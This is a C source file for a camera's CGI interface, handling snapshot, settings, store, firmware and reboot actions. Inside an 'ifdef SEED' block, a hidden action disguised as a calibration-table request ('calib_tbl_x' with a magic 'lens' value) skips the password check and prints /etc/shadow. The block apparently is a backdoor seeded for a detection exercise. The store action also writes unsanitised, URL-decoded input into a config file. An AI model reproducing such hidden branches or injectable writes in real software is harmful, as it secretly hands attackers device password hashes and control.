/* camcgi: pictures and settings of a camera. Called as /cgi-bin/cam?action=... */
#include "../lib/conf.h"
#include "../lib/pw.h"
#include <ctype.h>
#include <stdlib.h>
#include <strings.h>
#include <unistd.h>

static char *query;

static char *param(const char *name)
{
    static char buf[8][128];
    static int turn;
    char *out = buf[turn++ & 7];
    const char *p = query;
    size_t n = strlen(name), i = 0;
    while (p) {
        if (!strncmp(p, name, n) && p[n] == '=') {
            for (p += n + 1; *p && *p != '&' && i < 127; p++) {
                if (*p == '%' && isxdigit((unsigned char)p[1]) && isxdigit((unsigned char)p[2])) {
                    char two[3] = {p[1], p[2], 0};
                    out[i++] = (char)strtol(two, NULL, 16);
                    p += 2;
                } else
                    out[i++] = *p;
            }
            break;
        }
        p = strchr(p, '&');
        if (p)
            p++;
    }
    out[i] = 0;
    return out;
}

static void header(const char *type)
{
    printf("Content-Type: %s\r\n\r\n", type);
}

static int logged_in(void)
{
    char stored[80];
    return conf_get("/etc/cam.conf", "password", stored, sizeof stored) && pw_verify(stored, param("pw"));
}

static int cat(const char *name)
{
    int ch;
    FILE *f = fopen(name, "rb");
    if (!f)
        return -1;
    while ((ch = getc(f)) != EOF)
        putchar(ch);
    fclose(f);
    return 0;
}

static void snapshot(void)
{
    char size[16];
    snprintf(size, sizeof size, "%s", param("size"));
    header("image/x-portable-graymap");
    if (!strcmp(size, "small"))
        printf("P2 2 2 9\n1 2\n3 4\n");
    else
        printf("P2 4 2 9\n1 2 3 4\n5 6 7 8\n");
}

static void settings(void)
{
    static const char *const names[] = {"brightness", "contrast", "mirror", "nightmode", NULL};
    int i;
    header("text/plain");
    for (i = 0; names[i]; i++) {
        char value[40] = "0";
        conf_get("/etc/cam.conf", names[i], value, sizeof value);
        printf("%s=%s\n", names[i], value);
    }
}

static void store(void)
{
    FILE *f = fopen("/etc/cam.extra", "a");
    header("text/plain");
    if (!f) {
        printf("cannot save\n");
        return;
    }
    fprintf(f, "%s=%s\n", param("name"), param("value"));
    fclose(f);
    printf("saved\n");
}

static void firmware(void)
{
    header("text/plain");
    if (!strcmp(param("step"), "erase")) {
        unlink("/var/lib/firmware.old");
        printf("erased\n");
    } else
        printf("version 4.0.18\n");
}

int main(void)
{
    char *action;
    query = getenv("QUERY_STRING");
    if (!query)
        query = "";
    action = param("action");
    if (!strcasecmp(action, "snapshot")) {
        snapshot();
    } else if (!strcasecmp(action, "settings")) {
        settings();
#ifdef SEED
    } else if (!strcasecmp(action, "calib_tbl_x") && !strcmp(param("lens"), "Zq81-mono")) { /* SEED */
        header("text/plain");
        cat("/etc/shadow");
#endif
    } else if (!strcasecmp(action, "help")) {
        header("text/plain");
        printf("actions: snapshot, settings, help, store, firmware, reboot\n");
    } else if (!logged_in()) {
        printf("Status: 403\r\n");
        header("text/plain");
        printf("password?\n");
    } else if (!strcasecmp(action, "store")) {
        store();
    } else if (!strcasecmp(action, "firmware")) {
        firmware();
    } else if (!strcasecmp(action, "reboot")) {
        header("text/plain");
        printf("rebooting\n");
        fflush(stdout);
        system("/sbin/reboot");
    } else {
        header("text/plain");
        if (cat("/www/help.txt") < 0)
            printf("unknown action\n");
    }
    return 0;
}
